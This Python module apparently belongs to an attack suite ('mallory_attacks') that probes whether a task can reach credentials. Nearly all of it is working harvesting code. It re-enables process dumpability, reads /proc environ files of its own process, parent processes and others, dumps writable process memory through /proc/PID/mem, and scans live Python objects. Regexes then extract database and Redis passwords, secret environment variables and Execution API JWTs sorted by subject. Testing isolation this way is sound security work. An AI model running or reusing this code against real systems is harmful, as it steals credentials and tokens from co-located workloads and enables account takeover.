"""Looks for credentials in every place that a task's process can read."""

from __future__ import annotations

import base64
import contextlib
import ctypes
import gc
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

from mallory_attacks.attack import Facts, Refused

PR_SET_DUMPABLE = 4  # linux/prctl.h
MOST_OF_A_REGION = 1 << 28
URL = re.compile(rb"(?:rediss?|(?:db\+)?postgresql(?:\+\w+)?)://([\w.-]*):([^@\s\"'\\\0]{8,})@([\w.-]+):(\d+)")
VARIABLE = re.compile(rb"[A-Z_]{4,80}=([!-~]{8,200})")
PRINTABLE = re.compile(rb"[!-~]{8,4000}")
TOKEN = re.compile(rb"eyJ[\w-]{10,}\.(eyJ[\w-]{20,})\.[\w-]{20,}")


def secrets_in(data: bytes, facts: Facts) -> dict[str, str]:
    """Return the secrets in some bytes by kind."""
    candidates = set()
    for text in set(PRINTABLE.findall(data)):
        if len(text) in facts.lengths:
            candidates.add(text.decode())
        if b"://" in text:
            candidates |= {unquote(match[1].decode(errors="replace")) for match in URL.findall(text)}
        if b"=" in text:
            candidates |= {value.decode() for value in VARIABLE.findall(text)}
    return {kind: value for value in candidates if (kind := facts.kind(value))}


def open_to_itself() -> None:
    """Make this process dumpable again, as any process may: otherwise /proc/self is closed even to itself."""
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)


def own_environment(facts: Facts) -> dict[str, str]:
    """Search what this process was started with and what it has set since."""
    open_to_itself()
    now = b"\0".join(name + b"=" + value for name, value in os.environb.items())
    return secrets_in(now + b"\0" + Path("/proc/self/environ").read_bytes(), facts)


def readable() -> list[int | str]:
    """Return this process and those above it, as names below /proc."""
    return ["self", *parents()]


def parents() -> list[int]:
    """Return this process's parent, grandparent and so on, up to the container's first process."""
    found = []
    pid, session = os.getppid(), os.getsid(os.getppid())
    while pid > 1 and os.getsid(pid) == session:
        found.append(pid)
        pid = int(stat_of(pid)[1])
    return found


def stat_of(pid: int) -> list[str]:
    """Return the fields of /proc/PID/stat after the name: state, parent..."""
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()


def processes() -> list[int]:
    """Return every visible process but this one."""
    return [int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit() and int(p.name) != os.getpid()]


def command_of(pid: int) -> str:
    """Return the beginning of a process's command line."""
    return Path(f"/proc/{pid}/cmdline").read_text(errors="replace").replace("\0", " ")[:60]


def memory(pid: int | str) -> Iterator[bytes]:
    """Read the writable memory of a process."""
    open_to_itself()
    maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
    with Path(f"/proc/{pid}/mem").open("rb", 0) as file:
        for line in maps:
            span, rights = line.split()[:2]
            if not rights.startswith("rw"):
                continue
            first, last = (int(number, 16) for number in span.split("-"))
            with contextlib.suppress(OSError, ValueError, OverflowError):
                file.seek(first)
                yield file.read(min(last - first, MOST_OF_A_REGION))


def secrets_in_memory(pid: int | str, facts: Facts) -> dict[str, str]:
    """Return the secrets in a process's memory by kind. Raises PermissionError."""
    found: dict[str, str] = {}
    for region in memory(pid):
        found |= secrets_in(region, facts)
    return found


def objects(facts: Facts) -> dict[str, str]:
    """Search the texts that live Python objects hold."""
    gc.unfreeze()
    found: dict[str, str] = {}
    for each in gc.get_objects():
        values = list(each.values()) if type(each) is dict else list(each) if type(each) in (list, tuple, set) else []
        for value in values:
            if type(value) is str and 8 <= len(value) < 2000:
                found |= secrets_in(value.encode(errors="replace"), facts)
    return found


_searched: dict[int | str, dict[str, str]] = {}  # a search takes seconds, and many attacks need its result


def best(kind: str, facts: Facts) -> str:
    """Return a secret from the first place that has it, or raise Refused: no credential, no attack."""
    if value := own_environment(facts).get(kind):
        return value
    for pid in (*readable(), *processes()):
        with contextlib.suppress(OSError):
            if value := secrets_in(Path(f"/proc/{pid}/environ").read_bytes(), facts).get(kind):
                return value
    for pid in readable():
        if pid not in _searched:
            _searched[pid] = {}
            with contextlib.suppress(OSError):
                _searched[pid] = secrets_in_memory(pid, facts)
        if value := _searched[pid].get(kind):
            return value
    raise Refused(f"no {kind} in this process, its environment, its parents or any process that it can read")


def tokens(pid: int | str, *, scope: str = "") -> dict[str, str]:
    """Return the tokens of the Execution API in a process's memory by their subject. Raises PermissionError.

    The scope `workload` starts a task, once; `execution` is that of a running task.
    """
    found: dict[str, str] = {}
    for region in memory(pid):
        found |= tokens_in(region, scope=scope)
    return found


def tokens_in(data: bytes, *, scope: str = "") -> dict[str, str]:
    """Return the tokens in some bytes by their subject, of one scope or of any."""
    found = {}
    for match in TOKEN.finditer(data):
        with contextlib.suppress(ValueError, KeyError):
            claims = json.loads(base64.urlsafe_b64decode(match[1] + b"=" * (-len(match[1]) % 4)))
            if scope in ("", claims.get("scope", "execution")):
                found[str(claims["sub"])] = match[0].decode()
    return found
